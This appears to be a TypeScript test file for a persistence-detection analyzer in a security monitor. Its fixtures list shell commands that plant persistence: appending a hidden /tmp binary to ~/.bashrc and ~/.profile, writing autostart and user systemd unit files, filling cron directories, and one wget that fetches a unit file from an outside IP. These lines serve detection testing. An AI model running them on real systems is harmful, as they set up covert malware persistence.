import assert from 'node:assert/strict';
import { test } from 'node:test';
import { persistenceAnalyzers } from '#shared/analyzers/persistence/analyzers.ts';
import { decideAll, shell, told } from '../optimization/fixture.ts';

const ANALYZERS = persistenceAnalyzers({ programs: () => ['xmrig', 'kinsing'] }).filter(
  ({ id }) => id !== 'script_started',
);
const PROFILE = 'persistence_file/profile strong';

test('knows a home by its short names in whatever folder the command runs', () => {
  const table: readonly (readonly [string, string])[] = [
    ['echo /tmp/.x/a >> ~/.bashrc', PROFILE],
    ['echo /tmp/.x/a >> $HOME/.profile', PROFILE],
    ['echo /tmp/.x/a >> "$HOME"/.bashrc', PROFILE],
    ['echo /tmp/.x/a >> ~www-data/.profile', PROFILE],
    ['echo /tmp/.x/a | tee -a ~/.profile', PROFILE],
    ['cd ~ && echo /tmp/.x/a >> .bashrc', PROFILE],
    ['cd; echo /tmp/.x/a >> ./.bashrc', PROFILE],
    ['for f in ~/.bashrc ~/.profile; do echo /tmp/.x/a >> $f; done', PROFILE],
    ['for f in .bashrc .profile; do echo /tmp/.x/a >> ~/$f; done', PROFILE],
    ['echo Exec=/tmp/.x/a > ~/.config/autostart/a.desktop', 'persistence_file/autostart strong'],
    ['cp /tmp/x ~/.config/systemd/user/a.service', 'persistence_file/unit strong'],
    ['wget -P ~/.config/systemd/user http://198.51.100.7/a.service', 'persistence_file/unit strong'],
    ['cat ~/.bashrc', '-'],
    ['cp ~/.bashrc ~/.profile /backup/', '-'],
    ['cd /backup && echo /tmp/.x/a >> x~/.bashrc', '-'],
  ];
  for (const [line, expected] of table) {
    for (const more of [{}, { workingDirectory: '/root' }, { workingDirectory: '/srv/app/' }])
      assert.equal(told(ANALYZERS, shell(line, more)), expected, `${line} in ${more.workingDirectory}`);
  }
});

test('names each target of braces and loops, within bounds', () => {
  const pathsOf = (line: string): readonly string[] =>
    decideAll(ANALYZERS, shell(line)).flatMap(({ artifacts }) => artifacts);
  for (const line of ['cp /tmp/x /etc/cron.{d,daily}/x', 'for d in d daily; do cp /tmp/x /etc/cron.$d/x; done']) {
    const paths = pathsOf(line);
    for (const path of ['path:/etc/cron.d/x', 'path:/etc/cron.daily/x']) assert.ok(paths.includes(path), line);
  }
  const line = 'for a in {1..64}; do for b in {1..64}; do echo /tmp/x > /etc/cron.d/$a.$b; done; done';
  assert.ok(decideAll(ANALYZERS, shell(line)).length <= 32);
});
